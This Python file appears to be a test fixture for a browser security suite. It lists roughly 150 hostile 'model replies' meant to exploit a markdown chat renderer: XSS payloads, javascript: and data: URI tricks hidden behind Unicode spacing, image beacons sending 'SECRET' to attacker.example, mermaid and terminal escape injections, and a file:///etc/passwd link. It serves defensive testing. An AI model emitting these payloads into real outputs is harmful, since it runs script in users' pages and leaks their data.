"""Hostile model replies for the browser security suite (issue 12): at least 150, each one
aimed at running script in the page or making it fetch from the attacker's host.

``ATTACKER`` is a host name the suite intercepts (nothing may ever ask for it) and
``{port}`` an attacker server on 127.0.0.1 that counts hits. Script side effects
set ``window.__pwned``.
"""
from __future__ import annotations

ATTACKER = "attacker.example"

# Every separator, format or control character a browser or marked may drop in front of a scheme.
SPACES = ["\u00a0", "\u1680", "\u2000", "\u2001", "\u2002", "\u2003", "\u2004", "\u2005", "\u2006", "\u2007",
          "\u2008", "\u2009", "\u200a", "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\ufeff", "\u180e",
          "\u200b", "\x01", "\x1f", " \t", "\u0085"]

XSS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=2>",
    "<IMG SRC=x OnErRoR=window.__pwned=3>",
    "<img\nsrc=x\nonerror=window.__pwned=4>",
    "<svg onload=window.__pwned=5>",
    "<svg><script>window.__pwned=6</script></svg>",
    '<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
    "<details open ontoggle=window.__pwned=8>",
    "<!-- x --><img src=x onerror=window.__pwned=9>",
    "<![CDATA[<img src=x onerror=window.__pwned=10>]]>",
    "</p><img src=x onerror=window.__pwned=11>",
    "- item\n\n  <img src=x onerror=window.__pwned=12>",
    "> <img src=x onerror=window.__pwned=13>",
    "| a |\n|---|\n| <img src=x onerror=window.__pwned=14> |",
    "# <img src=x onerror=window.__pwned=15>",
    '<a href="javascript:window.__pwned=16">x</a>',
    "<body onload=window.__pwned=17>",
    "<input autofocus onfocus=window.__pwned=18>",
    "<video><source onerror=window.__pwned=19></video>",
    "<math><mtext><img src=x onerror=window.__pwned=20></mtext></math>",
    '<object data="javascript:window.__pwned=21"></object>',
    '<embed src="javascript:window.__pwned=22">',
    "<style>@import 'http://attacker.example/css';</style>",
    '<link rel=stylesheet href="http://attacker.example/l.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=23">',
    '<form action="javascript:window.__pwned=24"><button>go</button></form>',
    '<base href="http://attacker.example/">[rel](x)',
    "~`<img src=x onerror=window.__pwned=25>`",
    "www.a.b`<img src=x onerror=window.__pwned=26>`",
    "`a\nb`<img src=x onerror=window.__pwned=27>`",
    "*a ``` x `<img src=x onerror=window.__pwned=28>*` y",
    "[a](`x) <img src=x onerror=window.__pwned=29>`",
    "| `x | <img src=x onerror=window.__pwned=30> | y` |\n|---|---|---|",
    "- ```\n  ```\n  <img src=x onerror=window.__pwned=31>\n",
    "```\n```~\n<img src=x onerror=window.__pwned=32>\n```",
    "```\n```\t\n<img src=x onerror=window.__pwned=33>\n```",
    "\\<img src=x onerror=window.__pwned=34> www.x.y\\<img src=x onerror=window.__pwned=35>",
    '![$" onerror="window.__pwned=36$](x)',
    '[a](x "$" onmouseover="window.__pwned=37$")',
    '![\\\\(" onerror="window.__pwned=38\\\\)](x)',
    '```py" onclick="window.__pwned=39\ncode\n```',
    "$a\n```\n$ <img src=x onerror=window.__pwned=40>\n```",
    '![@\\@0@@](x)\n\n  ```\n  $" onerror="window.__pwned=41$\n  ```\n',
    "[\\\n```\n\\$]: </p><a href=javascript:window.__pwned=42>x</a>\n- <img src=x onerror=window.__pwned=43>",
    "$$\\href{javascript:window.__pwned=44}{click}$$",
    "$\\unicode{<img src=x onerror=window.__pwned=45>}$",
]

SCHEMES = [
    "[click](javascript:window.__pwned=101)",
    "[click](JaVaScRiPt:window.__pwned=102)",
    "[click](java\tscript:window.__pwned=103)",
    "[click](&#106;avascript:window.__pwned=104)",
    "[click](&#x6A;avascript&colon;window.__pwned=105)",
    "[click](javascript&#58;window.__pwned=106)",
    "[click](javascript\\:window.__pwned=107)",
    "[click](&#1;javascript:window.__pwned=108)",
    '[click](  javascript:window.__pwned=109 "title")',
    "[click](<javascript:window.__pwned=110>)",
    "[click](\njavascript:window.__pwned=111)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMTI8L3NjcmlwdD4=)",
    "[click][r]\n\n[r]: javascript:window.__pwned=113",
    "[r]\n\n[r]:\n  JAVASCRIPT:window.__pwned=114",
    "<javascript:window.__pwned=115>",
    "<JaVaScRiPt:window.__pwned=116>",
    "<data:text/html,<script>window.__pwned=117</script>>",
    "[click](&Tab;javascript:window.__pwned=118)",
    "[click](&NewLine;javascript:window.__pwned=119)",
    "[click](&nbsp;javascript:window.__pwned=120)",
    "[click](file:///etc/passwd)",
    "[click](blob:http://attacker.example/x)",
    "see ftp://attacker.example/file and FTP://attacker.example/x",
    "[click](intent://attacker.example#Intent;end)",
]

IMAGES = [
    "![x](http://attacker.example/inline.png?q=SECRET)",
    "![x](HTTPS://attacker.example/upper.png)",
    "![x][r]\n\n[r]: http://attacker.example/ref.png",
    "![r]\n\n[r]: //attacker.example/shortcut.png",
    "![x](//attacker.example/protocol-relative.png)",
    "![x](<http://attacker.example/pointy.png>)",
    "![x](http://attacker.example/title.png 'title')",
    "[![x](http://attacker.example/nested.png)](http://example.org)",
    "![a [b](http://example.org/)](http://attacker.example/alt-link.png)",
    "- ![x](http://attacker.example/list.png)",
    "> ![x](http://attacker.example/quote.png)",
    "| ![x](http://attacker.example/table.png) |\n|---|",
    "`a`![x](http://attacker.example/after-span.png)",
    "\\\\![x](http://attacker.example/escaped-backslash.png)",
    "$x$ ![x](http://attacker.example/math.png) $y$",
    "![x](&#104;ttp://attacker.example/entity.png)",
    "![x](http://127.0.0.1:{port}/local-attacker.png)",
    "![x](//127.0.0.1:{port}/local-relative.png)",
    "![x](data:image/svg+xml,<svg onload=window.__pwned=130>)",
    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fcHduZWQ9MTMxIi8+)",
    "![x](data:text/html,<script>window.__pwned=132</script>)",
    "![ok](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)"
    " and ![x](http://attacker.example/after-data.png)",
    "<img src=http://attacker.example/raw-tag.png>",
    "<picture><source srcset=http://attacker.example/srcset.png><img></picture>",
    "<video poster=http://attacker.example/poster.png>",
]

MERMAID = [
    "```mermaid\ngraph TD\nA[\"<img src=http://attacker.example/mermaid.png>\"] --> B\n```",
    "```mermaid\nflowchart LR\nA --> B\nclick A \"javascript:window.__pwned=140\"\n```",
    "~~~mermaid\ngraph TD\nA[<img src=x onerror=window.__pwned=141>]\n~~~",
    "- ```mermaid\n  graph TD\n  A[\"<img src=//attacker.example/m2.png>\"]\n  ```",
    "```Mermaid\ngraph TD\nA-->B\n```",
    "````mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\nA[\"<img src=x onerror=window.__pwned=142>\"]\n````",
]

# -f code must take only what CommonMark reads as code (finding 4): prose after a longer
# or indented closing fence is no code.
CODE = [
    "Run this:\n\n```python\nx = 1\n````\nimport os  # prose, not code: the fence closed above\n",
    "```python\ny = 2\n   ```\nwindow.__pwned = 150  # prose\n```\n",
    "~~~\nz = 3\n~~~~~\n<img src=x onerror=window.__pwned=151>\n",
    "```html\n<script>window.__pwned=152</script>\n<img src=x onerror=window.__pwned=153>\n```\n",
    "- step\n  ```bash\n  echo hi\n  ```\n- <img src=x onerror=window.__pwned=154>\n",
]

TERMINAL = [
    "clipboard \x1b]52;c;cHduZWQ=\x07 link \x1b]8;;http://attacker.example/\x1b\\click\x1b]8;;\x1b\\ done",
    "clear \x1b[2J\x1b[H reset \x1bc csi \x9b31m red \u202eevil\u202c",
    "bell \x07 backspace \x08\x08 nul \x00 del \x7f",
]


def links_behind(space: str, n: int) -> list:
    return [
        f"[click]({space}javascript:window.__pwned={n})",
        f"![img]({space}javascript:window.__pwned={n + 1})",
        f"[click][r{n}]\n\n[r{n}]: {space}javascript:window.__pwned={n + 2}",
    ]


def hostile_replies(port: int) -> list:
    """(name, reply text) pairs; ``port`` is the local attacker server's."""
    out = []
    for k, space in enumerate(SPACES):
        for j, text in enumerate(links_behind(space, 200 + 3 * k)):
            out.append((f"space-U+{ord(space[0]):04X}-{j}", text))
    for group, texts in (("xss", XSS), ("scheme", SCHEMES), ("image", IMAGES), ("mermaid", MERMAID),
                         ("code", CODE), ("terminal", TERMINAL)):
        out += [(f"{group}-{i}", t.replace("{port}", str(port))) for i, t in enumerate(texts)]
    return out
